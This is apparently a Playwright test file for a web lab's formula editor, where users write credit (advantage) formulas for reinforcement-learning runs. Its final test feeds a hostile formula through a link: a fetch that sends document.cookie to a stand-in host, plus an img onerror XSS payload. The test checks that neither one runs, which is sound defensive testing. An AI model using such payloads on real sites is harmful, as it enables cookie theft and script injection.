import type { Locator, Page } from '@playwright/test';
import { bringAxe, expectToFit } from './axe.ts';
import { expect, test } from './fixtures.ts';
import type { Lab } from './lab.ts';
import { linkWith } from './payload.ts';

const SMALL = { 'run.updates': 4, 'run.seeds': 1, 'run.backend': 'cpu' };
const dialog = (page: Page): Locator => page.getByRole('dialog', { name: 'Credit formula' });
const editor = (page: Page): Locator => dialog(page).locator('.cm-content');
/** The sentence about the whole text. */
const sentence = (page: Page): Locator => dialog(page).getByRole('status').first();
/** Correlation, right sign and direction of the formula and of the run. */
const numbers = (page: Page): Locator => dialog(page).getByRole('row', { name: /^Your formula/ });

/** The experiment after two updates. */
async function trained(lab: Lab): Promise<void> {
  await lab.open();
  await lab.load(SMALL);
  await lab.steps(2);
}

/** Types the start of a word and takes what is suggested first. */
async function take(page: Page, start: string, word: string): Promise<void> {
  await page.keyboard.type(start);
  await expect(
    dialog(page).locator('.cm-tooltip-autocomplete:not(.cm-tooltip-autocomplete-disabled) [aria-selected]'),
  ).toContainText(word);
  await page.keyboard.press('Enter');
}

test('from an empty editor to a working variant of GiGPO that trains, with the keyboard alone; closing the editor loses no text, and Undo brings back the run that a formula has replaced', async ({
  lab,
  page,
}) => {
  await trained(lab);
  await lab.button('Show setup').focus();
  await page.keyboard.press('Enter');
  const open = lab.button('Write your own formula');
  await expect(open).toBeVisible();
  await open.focus();
  await page.keyboard.press('Enter');
  await expect(editor(page)).toBeFocused();

  await test.step('closing loses no text, and Undo brings back the run', async () => {
    await page.keyboard.type('reward');
    await expect(sentence(page)).toHaveText('One number per step, from reward.');
    await page.keyboard.press('Escape');
    await expect(dialog(page)).toHaveCount(0);
    await expect(open).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(editor(page)).toHaveText('reward');
    await dialog(page).getByRole('button', { name: 'Use in this experiment' }).click();
    await lab.becomes('ready');
    await lab.button(/^Undo/).click();
    await lab.waitsAt(2);
    await expect(page.getByRole('combobox', { name: 'Advantage method' })).toHaveValue('gigpo');
  });

  await open.focus();
  await page.keyboard.press('Enter');
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Delete');
  await expect(dialog(page)).toContainText('The credit of every step appears here');
  await take(page, 'norma', 'normalize');
  await take(page, 'outc', 'outcome');
  await page.keyboard.type(', ');
  await take(page, 'ta', 'task');
  await page.keyboard.type(')');
  await expect(sentence(page)).toHaveText('One number per step, from outcome.');
  await expect(numbers(page)).toContainText('%');
  const grpo = await numbers(page).textContent();

  // a fault: sets of steps are not a state; what was seen last stays, and is marked
  await page.keyboard.type(' + normalizeSets(returnsToGo(reward, 0.95), state)');
  await expect(sentence(page)).toContainText('Line 1, column 69');
  await expect(dialog(page).locator('.code-fault')).toHaveText('state');
  await expect(dialog(page)).toContainText('this is the credit of your last text without one');
  await expect(numbers(page)).toHaveText(grpo!);
  await expect(dialog(page).getByRole('button', { name: 'Use in this experiment' })).toBeDisabled();

  // mended, with a weight that has a slider
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Delete');
  await page.keyboard.type('let ω = 1 in 0...4\nE = normalize(outcome, task)\n');
  await page.keyboard.type('E + ω * normalizeSets(returnsToGo(reward, 0.95), sets(state))');
  await expect(sentence(page)).toHaveText('One number per step, from outcome, reward.');
  await expect(numbers(page)).not.toHaveText(grpo!);
  const gigpo = await numbers(page).textContent();
  // the run is GiGPO with the same numbers
  const run = await dialog(page)
    .getByRole('row', { name: /^This run: GiGPO/ })
    .textContent();
  expect(gigpo!.replace('Your formula', '')).toBe(run!.replace('This run: GiGPO', ''));

  // Tab leaves the editor; the slider writes into the text, and the preview follows
  await page.keyboard.press('Tab');
  const slider = dialog(page).getByRole('slider', { name: 'ω' });
  while (!(await slider.evaluate((s) => s === document.activeElement))) await page.keyboard.press('Tab');
  await page.keyboard.press('End');
  await expect(editor(page)).toContainText('let ω = 4 in 0...4');
  await expect(numbers(page)).not.toHaveText(gigpo!);

  await dialog(page).getByRole('button', { name: 'Use in this experiment' }).focus();
  await page.keyboard.press('Enter');
  await expect(dialog(page)).toHaveCount(0);
  await lab.becomes('ready');
  await lab.runButton.focus();
  await page.keyboard.press('Enter');
  await lab.becomes('finished');
  expect(await lab.metric('entropy')).toBeGreaterThan(0);
  await expect(page.getByRole('region', { name: 'Setup' })).toContainText('let ω = 4 in 0...4');
});

test('the editor: a plain field where it cannot be loaded, then estimators to start from, types, what a column lacks; axe finds nothing in it', async ({
  lab,
  page,
  complaints,
}) => {
  await bringAxe(page);
  await page.route(/\/codeMirror-/, (route) => route.abort());
  await trained(lab);
  await lab.button('Show setup').click();
  await lab.button('Write your own formula').click();
  await expect(dialog(page)).toContainText('this plain field takes the same text');
  await dialog(page).getByRole('textbox', { name: 'Credit formula' }).fill('normalize(outcome, task)');
  await expect(numbers(page)).toContainText('%');
  await page.unroute(/\/codeMirror-/);
  await dialog(page).getByRole('button', { name: 'Try again' }).click();
  await expect(editor(page)).toHaveText('normalize(outcome, task)');
  expect(complaints.every((line) => /ERR_FAILED|dynamically imported module/.test(line))).toBe(true);
  complaints.length = 0;

  await test.step('every estimator that can be said as a formula starts one, which gives the same credit', async () => {
    const start = dialog(page).getByRole('combobox', { name: 'Start from' });
    await start.selectOption({ label: 'GiGPO' });
    await expect(numbers(page)).toContainText('%');
    const row = dialog(page).getByRole('row', { name: /^This run: GiGPO/ });
    await expect(numbers(page)).toHaveText((await row.textContent())!.replace('This run: GiGPO', 'Your formula'));
  });

  await test.step('types are told under the pointer and from the keyboard, and a column that is missing says why', async () => {
    await editor(page).click();
    await page.keyboard.press('Control+a');
    await page.keyboard.type('normalize(outcome, task)');
    const info = dialog(page).locator('.cm-tooltip .codeinfo');
    await editor(page).getByText('outcome').hover();
    await expect(info).toContainText('outcome: one number per episode');
    // what hovering shows goes with Escape, and the dialog stays
    await page.keyboard.press('Escape');
    await expect(info).toHaveCount(0);
    await page.keyboard.press('Home');
    await expect(dialog(page).locator('.codecursor')).toContainText('normalize(x, over: task | batch | player');
    await page.keyboard.press('Control+i');
    await expect(page.getByRole('status').filter({ hasText: 'normalize(x, over:' })).toHaveCount(1);
    await page.keyboard.press('End');
    await page.keyboard.type(' + branchS');
    const offered = dialog(page).locator(
      '.cm-tooltip-autocomplete:not(.cm-tooltip-autocomplete-disabled) [aria-selected]',
    );
    await expect(offered).toContainText('branchStep');
    await expect(offered).toContainText('not here');
    await expect(info).toContainText('needs episodes that were forked from others');
    // Escape closes the list first
    await page.keyboard.press('Escape');
    await expect(offered).toHaveCount(0);
    await expect(dialog(page)).toBeVisible();
    await page.keyboard.press('Control+Space');
    await expect(offered).toContainText('branchStep');
    await page.keyboard.press('Enter');
    await expect(dialog(page).getByRole('alert')).toContainText('needs episodes that were forked from others');
    await expect(dialog(page).getByRole('button', { name: 'Use in this experiment' })).toBeDisabled();
  });

  await test.step('axe finds nothing in both themes, and it fits in 320 px and with letters of twice the size', async () => {
    await editor(page).click();
    await page.keyboard.press('Control+a');
    await page.keyboard.type('let ω = 1 in 0...4\nω * normalize(outcome, task)');
    await expect(numbers(page)).toContainText('%');
    await expectToFit(page, [320], 'formula');
    await page.evaluate(() => (document.documentElement.style.fontSize = '200%'));
    await expectToFit(page, [640], 'formula, letters of twice the size');
    await page.evaluate(() => (document.documentElement.style.fontSize = ''));
    await page.setViewportSize({ width: 1280, height: 800 });
    await editor(page).click();
    await page.keyboard.press('Control+End');
    await page.keyboard.type(' + nor');
    await expect(dialog(page).locator('.cm-tooltip-autocomplete')).toBeVisible();
    await expectToFit(page, [1280], 'suggestions');
  });
});

test('without a batch one update makes one, and while a run trains the preview keeps its batch; a formula is compared', async ({
  lab,
  page,
}) => {
  await lab.open();
  await lab.load({ ...SMALL, 'run.updates': 20_000 });
  await lab.button('Show setup').click();
  await lab.button('Write your own formula').click();
  await expect(editor(page)).toBeFocused();
  await page.keyboard.type('outcome - mean(outcome, task)');
  await dialog(page).getByRole('button', { name: 'Make one update' }).click();
  await expect(numbers(page)).toBeVisible();
  const preview = dialog(page).getByRole('region', { name: 'Preview' });
  await expect(preview).toContainText('on the batch of update 1');
  await lab.button('Close the formula').click();
  await lab.runButton.click();
  await lab.reaches(3);
  await lab.button('Write your own formula').click();
  await expect(numbers(page)).toBeVisible();
  const heading = preview.getByRole('heading');
  const held = await heading.textContent();
  await editor(page).click();
  await page.keyboard.press('End');
  await page.keyboard.type(' + 0 * reward');
  await expect(sentence(page)).toHaveText('One number per step, from outcome, reward.');
  await expect(heading).toHaveText(held!);
  await preview.getByRole('button', { name: 'Take the newest batch' }).click();
  await expect(heading).not.toHaveText(held!);
  await expect(preview).toContainText('This run: GiGPO');

  await test.step('its settings in a sweep, its credit in the view of estimators', async () => {
    await page.keyboard.press('Escape');
    await lab.pauseButton.click();
    await lab.becomes('paused');
    await lab.button('Write your own formula').click();
    await expect(editor(page)).toBeFocused();
    await page.keyboard.press('Control+a');
    await page.keyboard.type('normalize(outcome, task)');
    await dialog(page).getByRole('button', { name: 'Compare with…' }).click();
    const sweep = page.getByRole('dialog', { name: 'Compare settings' });
    for (const [k, id] of ['formula', 'gigpo', 'grpo'].entries())
      await expect(sweep.getByLabel(`Advantage method, value ${k + 1}`)).toHaveValue(id);
    await expect(sweep.getByRole('button', { name: 'Start comparison' })).toBeEnabled();
    await page.keyboard.press('Escape');
    await lab.button('Compare estimators').click();
    await lab.button('Write a formula').click();
    await expect(editor(page)).toBeFocused();
    await page.keyboard.press('Control+a');
    await page.keyboard.type('reward');
    await dialog(page).getByRole('button', { name: 'Use in the comparison' }).click();
    await expect(page.getByRole('combobox', { name: 'Estimator C' })).toHaveValue('formula');
    await expect(page.getByRole('row', { name: /^C Formula as text/ })).toContainText('%');
    await page.getByText('Settings of estimator C').click();
    await lab.button('Edit formula').click();
    await expect(editor(page)).toHaveText('reward');
    await page.keyboard.press('Control+a');
    await page.keyboard.type('returnsToGo(reward)');
    await dialog(page).getByRole('button', { name: 'Use in the comparison' }).click();
    await expect(page.getByRole('region', { name: 'Credit' })).toContainText('returnsToGo(reward)');
  });
});

test('a hostile formula in a link is a text with one sentence, and nothing runs', async ({ lab, page }) => {
  const text = 'fetch("https://example.com/" + document.cookie) <img src=x onerror=alert(1)>';
  await page.goto(lab.site + linkWith({ advantage: { method: 'formula', formula: { text } } }));
  await lab.button('formula →').click();
  const setup = page.getByRole('region', { name: 'Setup' });
  await expect(setup.getByText(text)).toBeVisible();
  await expect(lab.runButton).toBeDisabled();
  await expect(setup.getByRole('alert')).toHaveCount(1);
  await expect(setup.getByRole('alert')).toContainText(/line 1, column \d+/i);
  expect((await lab.state()).update).toBe(0);
  await expect(setup.locator('img')).toHaveCount(0);
  const field = page.locator('[data-path="advantage.formula.text"]');
  await expect(field.getByRole('button', { name: 'Edit formula' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(editor(page)).toHaveText(text);
  await expect(sentence(page)).toContainText('Line 1');
  await expect(dialog(page).getByRole('button', { name: 'Use in this experiment' })).toBeDisabled();
  // a text that fits into no link is not cut in silence
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText('reward + '.repeat(1000));
  await expect(sentence(page)).toContainText('9000 characters');
});
